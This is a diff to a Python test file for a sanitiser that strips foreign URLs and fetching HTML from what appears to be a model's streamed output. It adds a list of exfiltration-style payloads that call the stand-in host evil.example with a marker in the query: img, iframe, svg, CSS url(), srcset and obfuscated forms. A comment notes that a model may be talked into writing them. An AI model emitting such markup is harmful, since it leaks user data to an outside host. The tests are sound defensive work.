@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from html.parser import HTMLParser
 from urllib.parse import urlsplit
 
 from hypothesis import given, settings
@@ -133,6 +134,13 @@ PIECES = st.sampled_from(
         "<a href='",
         "'>text</a> ",
         "www.evil.example/q ",
+        ' <img\nsrc="//evil.example/q">',
+        ' <iframe src="https:/\\evil.example/q">',
+        "<video poster=",
+        "<style>",
+        " url(//evil.example/b) ",
+        " //evil.example/q ",
+        "a<b ",
         "(see above) ",
         "\n",
         " ",
@@ -153,6 +161,7 @@ def test_streaming_equals_neutralising_the_whole(pieces: list[str], data: st.Dat
     assert out == neutralise(text, ALLOWED)
     assert "evil.example" not in out
     assert foreign(out) == []
+    assert fetching_tags(out) == []
 
 
 def test_plain_text_is_held_back_only_for_the_word_being_written() -> None:
@@ -171,3 +180,78 @@ def test_a_closing_bracket_of_another_kind_does_not_end_a_tag() -> None:
             stream = StreamNeutraliser(ALLOWED)
             out = stream.feed(text[:cut]) + stream.feed(text[cut:]) + stream.finish()
             assert out == neutralise(text, ALLOWED), (text, cut)
+
+
+def fetching_tags(text: str) -> list[str]:
+    """The tags an HTML parser reads in `text` that could make a browser fetch: one with an
+    attribute value, or a `<style>` or `<script>` (their content runs or fetches)."""
+    found: list[str] = []
+
+    class Tags(HTMLParser):
+        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+            if any(value is not None for _, value in attrs) or tag in ("style", "script"):
+                found.append(tag)
+
+        handle_startendtag = handle_starttag
+
+    parser = Tags()
+    # A `>` after the answer, as a page around it would have. `<!` (a comment or doctype,
+    # which fetches nothing) is escaped: this parser fails on some that browsers skip.
+    parser.feed(text.replace("<!", "&lt;!") + "\n>")
+    parser.close()
+    return found
+
+
+# HTML a model may be talked into writing: each tag fetches a foreign URL when rendered.
+FETCHING_HTML = [
+    '<img\nsrc="//evil.example/p.png?q=RPL-14">',
+    '<a\nhref="//evil.example/?q=RPL-14">click</a>',
+    '<iframe src="//evil.example/?q=RPL-14"></iframe>',
+    '<video poster="//evil.example/p.png?q=RPL-14"></video>',
+    '<iframe src="https:/\\evil.example/?q=RPL-14"></iframe>',
+    '<svg><image href="//evil.example/i.png?q=RPL-14"/></svg>',
+    '<div style="background:url(//evil.example/b.png?q=RPL-14)">x</div>',
+    "<style>body { background: url(\\2f\\2f evil.example/b.png) }</style>",
+    "<img src=&#47;&#47;evil.example/p.png\nalt=x>",
+    '<img src="/wiki/p.png" srcset="/a.png 1x,\n//evil.example/b.png 2x">',
+]
+
+
+def test_html_that_can_fetch_loses_its_target_streamed_or_not() -> None:
+    for html in FETCHING_HTML:
+        assert fetching_tags(html), html  # each one fetches as written
+        text = f"Refunds take 5 days [1]. {html} Done."
+        whole = neutralise(text, ALLOWED)
+        assert fetching_tags(whole) == [], (text, whole)
+        assert "//evil.example" not in whole, (text, whole)  # nor is it left as a link
+        assert whole.startswith("Refunds take 5 days [1]. ") and whole.endswith(" Done.")
+        for cut in range(len(text) + 1):
+            stream = StreamNeutraliser(ALLOWED)
+            out = stream.feed(text[:cut]) + stream.feed(text[cut:]) + stream.finish()
+            assert out == whole, (text, cut)
+
+
+def test_a_protocol_relative_or_backslashed_url_in_text_is_removed() -> None:
+    cases = {
+        "Fetch //evil.example/c?d=RPL-14 now": f"Fetch {REMOVED} now",
+        "see url(//evil.example/b.png)": f"see url({REMOVED})",
+        "Go to https:/\\evil.example/c now": f"Go to {REMOVED} now",
+        "Go to https:\\\\evil.example/c now": f"Go to {REMOVED} now",
+    }
+    for text, expected in cases.items():
+        assert neutralise(text, ALLOWED) == expected, text
+
+
+def test_html_like_prose_and_code_stay() -> None:
+    for text in (
+        "x < y and y > z",
+        "a <b> c </b> d<br/>",
+        "Use List<String> here.",
+        "if a<b and c>d then",
+        "// a comment, and/or C:\\\\Users",
+        f"<{OWN}>",
+    ):
+        assert neutralise(text, ALLOWED) == text
+    # A tag left open on its line cannot be told from one that fetches on the next, so its
+    # `<` no longer starts a tag; its text stays.
+    assert neutralise("for (i = 0; i<n; i++)\n", ALLOWED) == "for (i = 0; i< n; i++)\n"
